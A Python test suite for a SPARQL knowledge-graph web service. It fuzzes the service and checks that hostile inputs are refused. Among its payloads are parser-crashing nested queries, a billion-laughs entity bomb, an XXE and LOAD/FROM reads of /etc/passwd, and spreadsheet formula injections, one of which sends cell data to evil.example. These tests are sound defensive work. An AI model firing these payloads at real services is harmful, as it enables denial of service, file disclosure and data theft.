"""Hostile input over real HTTP: fuzzed queries and uploads never get a 500 or hang the service, what crashed or
exhausted Oxigraph's parsers is refused or stopped, nothing reaches outside the store, bodies over the limits are
refused before they are read, pages escape hostile labels and no route serves files from outside its directory.

Each regression test names what the fuzzing found (README "Reliability and security").
"""

from __future__ import annotations

import csv
import io
import re
import socket
import time
from pathlib import Path
from urllib.parse import unquote

import httpx
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from chainkg.api.app import create_app
from chainkg.graph.settings import Settings
from tests.conftest import WRITE_TOKEN
from tests.hostile import HOSTILE_LABELS, assert_escaped, assert_no_traversal, file_routes, html_routes
from tests.test_sparql_endpoint import bait  # noqa: F401 - the recording HTTP server fixture

AUTH = {"Authorization": f"Bearer {WRITE_TOKEN}"}
FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
CLIENT_TIMEOUT = 20  # far above the scratch server's 2 s limit: a request that takes this long is a hang
UPLOAD_TYPES = ["text/turtle", "application/n-triples", "application/n-quads", "application/trig",
                "application/ld+json", "application/rdf+xml", "text/csv"]


def assert_handled(response: httpx.Response) -> None:
    """Not a 500, and every error a JSON body with a code."""
    assert response.status_code < 500 or response.status_code == 503, response.text
    if response.status_code >= 400:
        assert response.headers["content-type"].startswith("application/json"), response.text
        assert response.json()["error"]
    if response.status_code == 503:
        assert response.json()["error"] in ("query-timeout", "query-busy"), response.text


def serving_rss_peak_mb(server) -> float:
    """The serving process's peak resident memory (VmHWM), in MB."""
    for row in Path(f"/proc/{server.process.pid}/status").read_text().splitlines():
        if row.startswith("VmHWM:"):
            return int(row.split()[1]) / 1024
    raise AssertionError("no VmHWM")


# ------------------------------------------------------------------------------------------- fuzzing: queries
SPARQL_PIECES = st.sampled_from([
    "SELECT", "ASK", "CONSTRUCT", "DESCRIBE", "WHERE", "{", "}", "(", ")", "[", "]", "?s", "?p", "?o", "$x", "*",
    ".", ";", ",", "a", "<urn:a>", "<http://x/>", "ex:a", ":b", "_:b", "'lit'", '"lit"@en', "'''long'''", "1", "-1.5e3",
    "true", "FILTER", "BIND", "AS", "OPTIONAL", "UNION", "MINUS", "GRAPH", "VALUES", "UNDEF", "GROUP BY", "ORDER BY",
    "LIMIT 3", "OFFSET 1", "COUNT(*)", "REGEX(?o, '(')", "STR", "LANG", "+", "-", "*", "/", "|", "^", "!", "&&", "||",
    "=", "!=", "<", ">", "#", "\n", "PREFIX ex: <http://e/>", "BASE <http://b/>", "EXISTS", "NOT", "IN", "SUBSTR",
    "'\\u0022'", "\\", "'", '"', "<<", ">>", "FROM", "NAMED", "SERVICE", "LOAD", "%", "é", "中",
])
QUERIES = st.one_of(
    st.lists(SPARQL_PIECES, min_size=1, max_size=30).map(" ".join),
    st.text(max_size=300),
    st.builds(lambda a, b: a + b, st.sampled_from(["SELECT * WHERE { ", "ASK { ", "CONSTRUCT WHERE { "]),
              st.text(alphabet="?spo<>{}()[].;,'\"\\ 1aZ#:", max_size=80)),
)


@FUZZ
@given(query=QUERIES, method=st.sampled_from(["GET", "POST form", "POST body"]),
       accept=st.sampled_from([None, "*/*", "text/csv", "application/ld+json", "image/png", "text/turtle;q=0.1, x"]))
def test_fuzzed_queries_never_get_a_500(scratch_server, query, method, accept):
    headers = {"Accept": accept} if accept else {}
    if method == "GET":
        response = httpx.get(scratch_server + "/sparql", params={"query": query}, headers=headers,
                             timeout=CLIENT_TIMEOUT)
    elif method == "POST form":
        response = httpx.post(scratch_server + "/sparql", data={"query": query}, headers=headers,
                              timeout=CLIENT_TIMEOUT)
    else:
        response = httpx.post(scratch_server + "/sparql", content=query.encode("utf-8", "surrogatepass"),
                              headers={**headers, "Content-Type": "application/sparql-query"}, timeout=CLIENT_TIMEOUT)
    assert_handled(response)


@FUZZ
@given(update=st.one_of(st.lists(SPARQL_PIECES | st.sampled_from(["INSERT DATA", "DELETE", "INSERT", "CLEAR ALL",
                                                                   "DROP", "GRAPH <urn:g>", "WITH <urn:g>"]),
                                 min_size=1, max_size=25).map(" ".join), st.text(max_size=200)))
def test_fuzzed_updates_never_get_a_500(scratch_server, update):
    response = httpx.post(scratch_server + "/update", data={"update": update}, headers=AUTH, timeout=CLIENT_TIMEOUT)
    assert_handled(response)


# ------------------------------------------------------------------------------------------- fuzzing: uploads
def nested_json(depth: int) -> str:
    return '{"@id": "urn:a", "urn:p": ' + '{"urn:p": ' * depth + "1" + "}" * depth + "}"


def nested_rdfxml(depth: int) -> str:
    return ('<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="urn:e#">'
            '<rdf:Description rdf:about="urn:a">' + "<e:p><rdf:Description>" * depth
            + "</rdf:Description></e:p>" * depth + "</rdf:Description></rdf:RDF>")


def laughs(levels: int) -> str:
    """The "billion laughs": each entity ten of the one before; 10 levels expand a 700-byte file to 2 GB."""
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "' + f"&a{i - 1};" * 10 + '">' for i in range(1, levels))
    return (f'<?xml version="1.0"?><!DOCTYPE rdf:RDF [{entities}]><rdf:RDF '
            f'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="urn:e#">'
            f'<rdf:Description rdf:about="urn:a"><e:p>&a{levels - 1};</e:p></rdf:Description></rdf:RDF>')


UPLOAD_BODIES = st.one_of(
    st.binary(max_size=400),
    st.text(max_size=400).map(str.encode),
    st.lists(st.sampled_from(["<urn:a>", "<urn:b>", "'x'", '"y"@en', "_:b", "[", "]", "(", ")", ".", ";", ",", "@prefix",
                              "e:", "<urn:g>", "{", "}", '"@id"', '"@context"', ":", "<rdf:RDF>", "</rdf:RDF>",
                              "name,park,source\n", "中元汇吉,天安数码城,x\n", "\n"]), max_size=40)
    .map(lambda parts: " ".join(parts).encode()),
    st.integers(1, 3000).map(lambda d: nested_json(d).encode()),
    st.integers(1, 3000).map(lambda d: nested_rdfxml(d).encode()),
)


@FUZZ
@given(body=UPLOAD_BODIES, media_type=st.sampled_from(UPLOAD_TYPES), method=st.sampled_from(["PUT", "POST"]),
       graph=st.sampled_from([None, "urn:fuzz", "relative", "<script>", ""]))
def test_fuzzed_uploads_never_get_a_500(scratch_server, body, media_type, method, graph):
    params = {} if graph is None else {"graph": graph}
    response = httpx.request(method, scratch_server + "/store", params=params, content=body,
                             headers={**AUTH, "Content-Type": media_type}, timeout=CLIENT_TIMEOUT)
    assert_handled(response)


# ------------------------------------------------------------------------------ what the fuzzing found: regressions
def post_query(server, text: str) -> httpx.Response:
    """POST as application/sparql-query: the body is the text, so the size limit counts the text itself."""
    return httpx.post(server + "/sparql", content=text.encode(), timeout=CLIENT_TIMEOUT,
                      headers={"Content-Type": "application/sparql-query"})


CRASHERS = {
    # Oxigraph's recursive parser overflows the stack (SIGSEGV) at ~5,000 nested brackets or ~20,000 chained
    # operators: on the in-process update path, and for in-memory stores, that killed the whole server.
    "nested brackets": "SELECT * WHERE { FILTER(" + "(" * 6000 + "1" + ")" * 6000 + ") }",
    "operator chain": "SELECT * WHERE { FILTER(" + "+".join(["1"] * 20000) + ") }",
    "negations": "SELECT * WHERE { FILTER(" + "!" * 30000 + "true) }",
    "union chain": "SELECT * WHERE { " + "UNION".join(["{}"] * 10000) + " }",
}


@pytest.mark.parametrize("name", CRASHERS)
def test_a_query_that_crashes_the_parser_is_a_400_and_the_service_lives_on(scratch_server, name):
    response = post_query(scratch_server, CRASHERS[name])
    assert response.status_code == 400 and response.json()["error"] == "query-too-complex", response.text
    assert httpx.get(scratch_server + "/sparql", params={"query": "ASK {}"}).json()["boolean"] is True


@pytest.mark.parametrize("name", CRASHERS)
def test_an_update_that_would_crash_the_serving_process_is_refused(scratch_server, name):
    """Updates run in the serving process: the text is first checked in a worker, which may die instead."""
    update = "INSERT { <urn:crash> <urn:p> 1 } WHERE " + CRASHERS[name].split("WHERE", 1)[1]
    response = httpx.post(scratch_server + "/update", content=update.encode(), timeout=CLIENT_TIMEOUT,
                          headers={**AUTH, "Content-Type": "application/sparql-update"})
    assert response.status_code == 400 and response.json()["error"] == "query-too-complex", response.text
    assert scratch_server.process.poll() is None
    assert httpx.get(scratch_server + "/healthz").status_code == 200


@pytest.mark.parametrize(("name", "body", "media_type"), [
    # JSON-LD objects 3,000 deep took 3.5 s and 1.7 GB in the parser, 5,000 deep crashed it (SIGSEGV)
    ("deep JSON-LD", nested_json(6000), "application/ld+json"),
    # RDF/XML nesting is quadratic: 20,000 levels (900 kB) took 7 s, 40,000 over a minute
    ("deep RDF/XML", nested_rdfxml(60_000)[:990_000] + "</rdf:RDF>", "application/rdf+xml"),
    # internal entities are expanded: 700 bytes became 2 GB
    ("billion laughs", laughs(10), "application/rdf+xml"),
])
def test_uploads_that_exhaust_a_parser_are_stopped_in_a_worker(scratch_server, name, body, media_type):
    before = serving_rss_peak_mb(scratch_server)
    started = time.monotonic()
    response = httpx.post(scratch_server + "/store", content=body.encode(), headers={**AUTH, "Content-Type": media_type},
                          timeout=CLIENT_TIMEOUT)
    took = time.monotonic() - started
    assert response.status_code == 400 and response.json()["error"] == "bad-rdf", response.text
    assert "nothing was loaded" in response.json()["message"]
    assert took < 10  # the 2 s limit, plus a worker's restart
    assert serving_rss_peak_mb(scratch_server) < before + 200  # the blow-up happened elsewhere
    assert httpx.get(scratch_server + "/healthz").status_code == 200


def test_a_query_that_needs_too_much_memory_is_stopped_with_an_error(scratch_server):
    fill = "\n".join(f'<urn:m{i}> <urn:p> "{"x" * 200}{i}" .' for i in range(3000))
    assert httpx.put(scratch_server + "/store", params={"graph": "urn:memory"}, content=fill.encode(),
                     headers={**AUTH, "Content-Type": "application/n-triples"}).status_code in (201, 204)
    sort = "SELECT ?o ?o2 WHERE { ?s ?p ?o . ?s2 ?p2 ?o2 . ?s3 ?p3 ?o3 } ORDER BY ?o2 ?o3 LIMIT 1"
    response = httpx.get(scratch_server + "/sparql", params={"query": sort}, timeout=CLIENT_TIMEOUT)
    assert response.status_code in (422, 503), response.text  # the cap or the time limit, whichever bites first
    assert response.json()["error"] in ("query-memory", "query-timeout")
    assert worker_data_limits(scratch_server) == {512 * 2**20}  # every worker, the replaced one too


def worker_data_limits(server, wait_s: float = 10) -> set[int | None]:
    """The RLIMIT_DATA of the server's query workers, once all of them run (a replacement takes a moment)."""
    deadline = time.monotonic() + wait_s
    while True:
        limits = set()
        for pid in _children(server.process.pid):
            row = next(r for r in Path(f"/proc/{pid}/limits").read_text().splitlines() if r.startswith("Max data size"))
            limits.add(int(row.split()[3]) if row.split()[3].isdigit() else None)
        if (None not in limits and len(_children(server.process.pid)) == 3) or time.monotonic() > deadline:
            return limits
        time.sleep(0.2)


def _children(pid: int) -> list[str]:
    return [c for t in Path(f"/proc/{pid}/task").iterdir() for c in (t / "children").read_text().split()]


def test_hostile_query_text_does_not_stall_the_service(scratch_server):
    """The request guard was quadratic: 100 kB like these held the serving process for minutes."""
    for text in ("a." * 49_000, "'\\" * 49_000, "ab.cd-" * 16_000):
        started = time.monotonic()
        response = post_query(scratch_server, text)
        assert response.status_code == 400 and time.monotonic() - started < 10


# ------------------------------------------------------------------------------------------- outbound requests
OUTBOUND = st.builds(
    lambda keyword, silent, gap, spelling: f"{keyword}{silent}{gap}{spelling}",
    st.sampled_from(["SERVICE", "service", "Service"]),
    st.sampled_from(["", " SILENT", " silent"]),
    st.sampled_from([" ", "\n", "\t", " # comment\n", "  "]),
    st.sampled_from(["<{url}>", "bait:x", "<./x>", "?u", "<{url}?a=1>", "<file:///etc/passwd>"]),
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(clause=OUTBOUND, form=st.sampled_from(["SELECT * WHERE {{ {c} {{ ?s ?p ?o }} }}",
                                             "ASK {{ BIND(<{url}> AS ?u) {c} {{ }} }}",
                                             "SELECT * WHERE {{ ?s ?p ?o OPTIONAL {{ {c} {{ ?a ?b ?c }} }} }}"]))
def test_no_spelling_of_service_reaches_out(server, bait, clause, form):  # noqa: F811
    url = f"http://127.0.0.1:{bait.server_port}/sparql"
    query = f"PREFIX bait: <{url}/> BASE <{url}/> " + form.format(c=clause, url=url).replace("{url}", url)
    response = httpx.get(server + "/sparql", params={"query": query}, timeout=CLIENT_TIMEOUT)
    assert response.status_code in (400, 403), response.text
    assert bait.seen == []


@pytest.mark.parametrize(("kind", "request_args"), [
    ("FROM file:", {"method": "GET", "url": "/sparql", "params": {"query": "SELECT * FROM <file:///etc/passwd> WHERE { ?s ?p ?o }"}}),
    ("LOAD file:", {"method": "POST", "url": "/update", "data": {"update": "LOAD <file:///etc/passwd> INTO GRAPH <urn:x>"}}),
    ("JSON-LD context", {"method": "POST", "url": "/store", "content": b'{"@context": "file:///etc/passwd", "@id": "urn:a", "urn:p": "x"}',
                         "headers": {"Content-Type": "application/ld+json"}}),
    ("XML external entity", {"method": "POST", "url": "/store?graph=urn:xxe", "headers": {"Content-Type": "application/rdf+xml"},
                             "content": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="urn:e#">'
                                        b'<rdf:Description rdf:about="urn:a"><e:p>&x;</e:p></rdf:Description></rdf:RDF>'}),
    ("default-graph-uri file:", {"method": "GET", "url": "/sparql", "params": {"query": "ASK {}", "default-graph-uri": "file:///etc/passwd"}}),
])
def test_local_files_are_never_read(scratch_server, kind, request_args):
    args = dict(request_args)
    args["headers"] = {**AUTH, **args.get("headers", {})}
    response = httpx.request(args.pop("method"), scratch_server + args.pop("url"), **args)
    assert response.status_code in (400, 403), response.text
    assert "root:x:0:0" not in response.text
    dump = httpx.get(scratch_server + "/sparql", params={"query": "ASK { ?s ?p ?o FILTER(CONTAINS(STR(?o), 'root:x')) }"})
    assert dump.json()["boolean"] is False


# ------------------------------------------------------------------------------------------- bodies over the limit
def raw_request(server, head: bytes, body_chunks=(), read_timeout: float = 5) -> bytes:
    """Send a request by hand (headers that lie, bodies that never end) and return the start of the answer."""
    host, port = server.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=read_timeout) as sock:
        sock.sendall(head)
        for chunk in body_chunks:
            try:
                sock.sendall(chunk)
            except OSError:
                break  # the server answered and closed: refused early
        return sock.recv(4096)


@pytest.mark.parametrize("path", ["/store?graph=urn:big", "/sparql", "/update"])
def test_a_declared_oversized_body_is_refused_before_it_is_sent(scratch_server, path):
    media_type = b"text/turtle" if path.startswith("/store") else b"application/sparql-query"
    head = (f"{'PUT' if path.startswith('/store') else 'POST'} {path} HTTP/1.1\r\nHost: x\r\n"
            f"Authorization: Bearer {WRITE_TOKEN}\r\nContent-Length: 10000000000\r\n").encode() \
        + b"Content-Type: " + media_type + b"\r\n\r\n"
    started = time.monotonic()
    answer = raw_request(scratch_server, head)  # no body at all: the server must not wait for 10 GB
    assert answer.startswith(b"HTTP/1.1 413") and time.monotonic() - started < 3


def test_an_endless_chunked_body_is_cut_at_the_limit(scratch_server):
    head = (f"PUT /store?graph=urn:big HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {WRITE_TOKEN}\r\n"
            f"Content-Type: text/turtle\r\nTransfer-Encoding: chunked\r\n\r\n").encode()
    chunk = b"10000\r\n" + b"#" * 0x10000 + b"\r\n"
    before = serving_rss_peak_mb(scratch_server)
    answer = raw_request(scratch_server, head, (chunk for _ in range(200)))  # 13 MB offered, 1 MB allowed
    assert answer.startswith(b"HTTP/1.1 413")
    assert serving_rss_peak_mb(scratch_server) < before + 50


# ------------------------------------------------------------------------------------------- pages and files
@pytest.fixture(scope="module")
def app_routes():
    """The app as built by the factory (not started): its routes and its OpenAPI document."""
    return create_app(Settings(store=":memory:", load_shipped=False))


@pytest.fixture(scope="module")
def hostile_labels(scratch_server):
    """Every hostile label on an entity of the scratch store, for the pages to show."""
    triples = "\n".join(f'<https://w3id.org/chainkg/id/hostile-{i}> <http://www.w3.org/2004/02/skos/core#prefLabel> '
                        f'"{label.replace(chr(92), chr(92) * 2).replace(chr(34), chr(92) + chr(34))}"@en .'
                        for i, label in enumerate(HOSTILE_LABELS))
    response = httpx.put(scratch_server + "/store", params={"graph": "urn:hostile"}, content=triples.encode(),
                         headers={**AUTH, "Content-Type": "application/n-triples"})
    assert response.status_code in (201, 204), response.text
    return HOSTILE_LABELS


def test_every_html_page_escapes_hostile_labels(scratch_server, app_routes, hostile_labels):
    """Every GET route that answers HTML (without path parameters: the explorer's entity and graph pages have
    their own hostile-label tests in test_browser.py), fetched with hostile data in the store and in its query
    string."""
    pages = html_routes(app_routes)
    assert {"/", "/search", "/sparql", "/docs", "/resource"} <= set(pages)
    for path in pages:
        for label in hostile_labels:
            response = httpx.get(scratch_server + path, params={"q": label, "label": label},
                                 headers={"Accept": "text/html"})
            assert response.status_code < 500
            assert_escaped(response.text, label)


@pytest.mark.parametrize("label", HOSTILE_LABELS)
def test_errors_that_echo_hostile_input_are_json_never_sniffed_as_html(scratch_server, label):
    response = httpx.get(scratch_server + "/store", params={"graph": label})
    assert response.status_code in (400, 404)
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["x-content-type-options"] == "nosniff"


def test_no_route_serves_files_from_outside_its_directory(scratch_server, app_routes):
    assert_no_traversal(scratch_server.url, file_routes(app_routes) + ["/", "/sparql/", "/docs/"])


# ------------------------------------------------------------------------------------------- exports
SPREADSHEET_FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                        "\t=1+1", "\r=1+1", "-2+3"]
EXPORT_IDS = ["电子信息企业", "中元汇吉;x=1,y", "ü-latin1-but-not-ascii", "🚗-emoji"]


@pytest.fixture(scope="module")
def export_entities(scratch_server):
    """Firms whose local ids are not Latin-1 (a header's charset) and whose labels are spreadsheet formulas,
    each supplying the next, so every view of them has edges (typed Organization too: no ontology here)."""
    base, lines = "https://w3id.org/chainkg/id/", []
    for i, local in enumerate(EXPORT_IDS):
        iri, label = f"<{base}{local}>", SPREADSHEET_FORMULAS[i]
        escaped = label.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
        lines += [f"{iri} <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <https://w3id.org/chainkg/ontology#Company> .",
                  f"{iri} <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <http://www.w3.org/ns/org#Organization> .",
                  f'{iri} <http://www.w3.org/2004/02/skos/core#prefLabel> "{escaped}"@zh-Hans .',
                  f'{iri} <http://www.w3.org/2004/02/skos/core#prefLabel> "firm {i}"@en .',
                  f"{iri} <https://w3id.org/chainkg/ontology#supplies> <{base}{EXPORT_IDS[(i + 1) % len(EXPORT_IDS)]}> ."]
    response = httpx.put(scratch_server + "/store", params={"graph": "urn:exports"}, content="\n".join(lines).encode(),
                         headers={**AUTH, "Content-Type": "application/n-triples"})
    assert response.status_code in (201, 204), response.text
    return EXPORT_IDS


@pytest.mark.parametrize("fmt", ["csv", "graphml", "gexf", "node-link"])
@pytest.mark.parametrize("local", EXPORT_IDS)
def test_an_export_of_an_entity_whose_id_is_not_latin1_is_named_by_rfc6266(scratch_server, export_entities, local,
                                                                          fmt):
    """A Chinese id in Content-Disposition was a 500 (headers are Latin-1): the name goes in filename*, UTF-8,
    with an ASCII stand-in in filename."""
    for path in (f"/api/entities/{local}/network", f"/api/companies/{local}/suppliers"):
        response = httpx.get(scratch_server + path, params={"format": fmt}, timeout=CLIENT_TIMEOUT)
        assert response.status_code == 200, response.text
        disposition = response.headers["content-disposition"]
        assert disposition.isascii(), disposition
        kind, fallback, extended = (part.strip() for part in disposition.split(";"))
        assert kind == "attachment" and re.fullmatch(r'filename="[A-Za-z0-9._-]+"', fallback), disposition
        name = unquote(extended.removeprefix("filename*=UTF-8''"), errors="strict")
        assert name == f"{local}-{'network' if 'network' in path else 'suppliers'}.{EXTENSIONS[fmt]}", disposition


EXTENSIONS = {"csv": "csv", "graphml": "graphml", "gexf": "gexf", "node-link": "json"}


def test_csv_exports_neutralise_cells_a_spreadsheet_would_run(scratch_server, export_entities):
    """Labels come from uploads and articles: one that is a formula stays text in a spreadsheet (a leading ')."""
    response = httpx.get(scratch_server + f"/api/entities/{EXPORT_IDS[0]}/network", params={"format": "csv",
                                                                                             "radius": 3})
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == len(EXPORT_IDS)
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    assert {row["source_label_zh"] for row in rows} == {"'" + label for label in SPREADSHEET_FORMULAS[:len(EXPORT_IDS)]}


# ------------------------------------------------------------------------------------------- RDF 1.2 triple terms
def nested_triple_term(depth: int, syntax: str) -> bytes:
    """One statement whose object is a triple term nested `depth` deep: `<<( <s> <p> <<( … )>> )>>` (14 bytes a
    level, so 50,000 levels fit the scratch server's 1 MB upload limit)."""
    term = "<<(<u:s><u:p>" * depth + "<u:o>" + ")>>" * depth
    if syntax == "application/n-quads":
        return f"<urn:s> <urn:p> {term} <urn:nested> .\n".encode()
    if syntax == "application/trig":
        return f"<urn:nested> {{ <urn:s> <urn:p> {term} . }}\n".encode()
    return f"<urn:s> <urn:p> {term} .\n".encode()


def store_size(server) -> int:
    query = "SELECT (COUNT(*) AS ?n) WHERE { { ?s ?p ?o } UNION { GRAPH ?g { ?s ?p ?o } } }"
    response = httpx.get(server + "/sparql", params={"query": query}, headers={"Accept": "text/csv"})
    return int(response.text.split()[1])


@pytest.mark.parametrize("media_type", ["application/n-quads", "application/trig"])
@pytest.mark.parametrize("depth", [1, 15_000, 50_000])
def test_triple_terms_however_deep_are_refused_and_the_service_lives_on(scratch_server, media_type, depth):
    """A triple term nested 50,000 deep crashed the serving process (SIGSEGV in Oxigraph's N-Quads parser); 15,000
    deep in TriG was a 500. Every syntax is now parsed in a worker, and triple terms are refused (README)."""
    before = store_size(scratch_server)
    response = httpx.post(scratch_server + "/store", content=nested_triple_term(depth, media_type),
                          headers={**AUTH, "Content-Type": media_type}, timeout=CLIENT_TIMEOUT)
    assert response.status_code == 400 and response.json()["error"] == "bad-rdf", response.text
    assert scratch_server.process.poll() is None
    assert httpx.get(scratch_server + "/healthz").status_code == 200
    assert store_size(scratch_server) == before


@pytest.mark.parametrize("media_type", ["application/n-triples", "text/turtle"])
def test_triple_terms_in_triple_syntaxes_are_refused_too(scratch_server, media_type):
    before = store_size(scratch_server)
    for depth in (1, 50_000):
        response = httpx.put(scratch_server + "/store", params={"graph": "urn:nested"},
                             content=nested_triple_term(depth, media_type),
                             headers={**AUTH, "Content-Type": media_type}, timeout=CLIENT_TIMEOUT)
        assert response.status_code == 400 and response.json()["error"] == "bad-rdf", response.text
    assert httpx.get(scratch_server + "/healthz").status_code == 200
    assert store_size(scratch_server) == before
